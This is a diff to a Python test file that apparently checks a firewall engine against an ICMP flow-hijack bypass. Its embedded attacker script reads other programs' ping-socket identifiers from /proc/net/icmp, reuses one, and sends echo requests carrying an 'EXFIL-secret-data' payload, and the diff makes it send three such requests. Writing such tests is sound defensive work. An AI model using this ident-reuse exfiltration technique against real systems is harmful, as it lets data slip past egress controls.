@@ -106,22 +106,23 @@ def test_a_ping_from_outside_the_attached_cgroup_is_nobodys(lab, cgroup, wardend
 # The attacker (python as nobody; no profile: engine default deny).
 #   own HOST                 one echo request from a ping socket of its own (kernel ident)
 #   watch SECS               prints every ping-socket identifier /proc/net/icmp shows meanwhile
-#   ride HOST IDENT          binds a ping socket to IDENT and sends an echo request carrying data
+#   ride HOST IDENT          binds a ping socket to IDENT and sends three echo requests with data
 PINGER = r"""
 import socket, struct, sys, time
 mode = sys.argv[1]
-def echo(host, ident=None):
+def echo(host, ident=None, times=1):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
     if ident is not None:
         s.bind(("0.0.0.0", ident))
     s.settimeout(1.5)
     payload = b"EXFIL-secret-data"
-    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + payload, (host, 0))
-    try:
-        d = s.recv(200)
-        print("reply", d[8:].decode(errors="replace"), flush=True)
-    except socket.timeout:
-        print("timeout", flush=True)
+    for seq in range(1, times + 1):
+        s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, seq) + payload, (host, 0))
+        try:
+            d = s.recv(200)
+            print("reply", d[8:].decode(errors="replace"), flush=True)
+        except socket.timeout:
+            print("timeout", flush=True)
 def idents():
     out = set()
     with open("/proc/net/icmp") as f:
@@ -142,7 +143,7 @@ elif mode == "ride":
     deadline = time.monotonic() + 5
     while ident in idents() and time.monotonic() < deadline:  # until the victim's socket is gone
         time.sleep(0.01)
-    echo(host, ident)
+    echo(host, ident, times=3)  # the second and third too: each is decided again
 """
 
 
@@ -184,5 +185,5 @@ def test_an_echo_request_on_another_programs_accepted_icmp_flow_is_decided(lab, 
     rows = [(r.get("action"), r.get("protocol"), r.get("remote_addr"), r.get("local_port"),
              r.get("profile"), r.get("decided_by")) for r in _rows(d)]
     print("idents", idents, "outcomes", outcomes, "rows", rows)
-    assert not any(o.startswith("reply") for o in outcomes), \
+    assert not any("reply" in o for o in outcomes), \
         f"BYPASS: the attacker's echo request rode the allowed ping's flow: {outcomes} {rows}"
